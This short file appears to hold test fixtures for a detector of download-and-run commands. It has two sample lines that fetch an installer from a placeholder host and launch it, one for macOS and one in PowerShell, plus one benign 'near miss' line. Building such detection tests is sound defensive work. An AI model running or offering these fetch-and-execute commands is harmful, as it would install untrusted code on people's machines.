curl -o a.dmg https://a.invalid/a.dmg; open a.dmg
iwr https://a.invalid/a.exe -OutFile a.exe; Start-Process -FilePath a.exe
# near misses
open report.html
